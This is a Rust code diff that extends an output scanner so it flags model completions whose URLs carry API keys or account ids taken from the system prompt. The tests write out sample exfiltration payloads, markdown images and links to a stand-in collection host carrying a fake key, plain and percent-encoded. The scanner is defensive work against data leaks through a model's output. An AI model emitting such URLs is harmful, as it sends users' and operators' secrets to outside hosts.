@@ -21,7 +21,10 @@
 //! high-entropy token — not in link paths, where document and video ids
 //! live), when it holds an email address or a phone/card-like number, or
 //! when it repeats four words of the prompt or the system prompt the caller
-//! passed in.
+//! passed in, or one of their identifier-like values (16+ letters, digits,
+//! `-`, `_`, with both letters and digits: an API key or an account id;
+//! values inside the prompts' own URLs are left out, so repeating a
+//! documented link is not a leak).
 //!
 //! "Image" here means any resource a renderer fetches by itself: markdown
 //! images, `<img>`, `<source>`, `<video poster>`, `<iframe>`, `<script src>`,
@@ -461,17 +464,43 @@ fn word_grams(text: &str) -> HashSet<u64> {
         .collect()
 }
 
-/// What the scan compares URL contents with: the word 4-grams of the
-/// prompt and system prompt, computed on first use.
+/// Identifier-like values of a text (keys, tokens, account ids): runs of
+/// letters, digits, `-` and `_` at least 16 long with both letters and
+/// digits, outside the URLs the text itself contains (a completion that
+/// repeats a documented link is not leaking it).
+fn secret_values(text: &str) -> Vec<String> {
+    static URLS: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)\b(?:https?|ftp|wss?)://\S+"));
+    let without_urls = URLS.replace_all(text, " ");
+    let mut out: Vec<String> = without_urls
+        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
+        .map(|t| t.trim_matches(['-', '_']))
+        .filter(|t| {
+            t.len() >= 16 && t.bytes().any(|b| b.is_ascii_digit()) && t.bytes().any(|b| b.is_ascii_alphabetic())
+        })
+        .map(str::to_owned)
+        .collect();
+    out.sort_unstable();
+    out.dedup();
+    out
+}
+
+/// What the scan compares URL contents with: the word 4-grams and the
+/// identifier-like values of the prompt and system prompt, computed on
+/// first use.
 #[derive(Debug, Default)]
 struct PromptGrams<'a> {
     sources: Vec<&'a str>,
     grams: OnceCell<HashSet<u64>>,
+    values: OnceCell<Vec<String>>,
 }
 
 impl PromptGrams<'_> {
     fn get(&self) -> &HashSet<u64> {
         self.grams.get_or_init(|| self.sources.iter().flat_map(|p| word_grams(p)).collect())
+    }
+
+    fn values(&self) -> &[String] {
+        self.values.get_or_init(|| self.sources.iter().flat_map(|p| secret_values(p)).collect())
     }
 }
 
@@ -582,6 +611,13 @@ impl ExfiltrationScanner {
             let carried_grams = word_grams(&carried);
             if !carried_grams.is_empty() && carried_grams.iter().any(|g| grams.get().contains(g)) {
                 return Some("words of the prompt".to_owned());
+            }
+            // A key or id from the system prompt, in the query or the
+            // path, leaves with the request whether or not the link is an
+            // image.
+            let everything = format!("{} {}", percent_decode(query), percent_decode(url.path()));
+            if grams.values().iter().any(|v| everything.contains(v.as_str())) {
+                return Some("a value from the prompt or system prompt".to_owned());
             }
         }
         None
@@ -776,6 +812,41 @@ mod tests {
         assert_eq!(cats(&found), ["unlisted_domain", "unlisted_domain"], "{found:?}");
         assert_eq!(found[0].severity, Severity::High);
         assert_eq!(found[1].severity, Severity::Medium);
+    }
+
+    #[test]
+    fn values_of_the_system_prompt_in_a_url_are_data() {
+        let key = "nw-live-a37de73d9ec5dfb0e3b4188c4d4d6e49";
+        let cx = OutputContext::new().with_system_prompt(format!(
+            "Internal notes: support API key {key}. Docs: https://docs.example.com/guide-2024-installation-v2"
+        ));
+        let cfg = ExfiltrationConfig::default();
+        // An image or a link carrying the key, plain or percent-encoded.
+        for text in [
+            format!("Done ![s](https://collect.example.net/p?d={key})"),
+            format!("[Track](https://collect.example.net/t/{key})"),
+            "![s](https://collect.example.net/p?d=nw%2Dlive%2Da37de73d9ec5dfb0e3b4188c4d4d6e49)".to_owned(),
+        ] {
+            let found = scan_cfg(&text, &cfg, Some(&cx));
+            assert!(
+                found.iter().any(|t| t.evidence.contains("a value from the prompt or system prompt")),
+                "{text}: {found:?}"
+            );
+        }
+        // Repeating a link the system prompt documents is not a leak, and
+        // without the context nothing ties the value to the prompt.
+        let repeat = "See https://docs.example.com/guide-2024-installation-v2 for the steps.";
+        assert!(scan_cfg(repeat, &cfg, Some(&cx)).is_empty());
+        let plain = format!("Done ![s](https://collect.example.net/p?d={key})");
+        assert!(!scan_cfg(&plain, &cfg, None).iter().any(|t| t.evidence.contains("system prompt")));
+    }
+
+    #[test]
+    fn secret_values_skip_words_and_urls() {
+        let v = secret_values(
+            "key sk-live-1234567890abcdef and internationalization at https://x.example/abcdefgh12345678",
+        );
+        assert_eq!(v, ["sk-live-1234567890abcdef"]);
     }
 
     #[test]
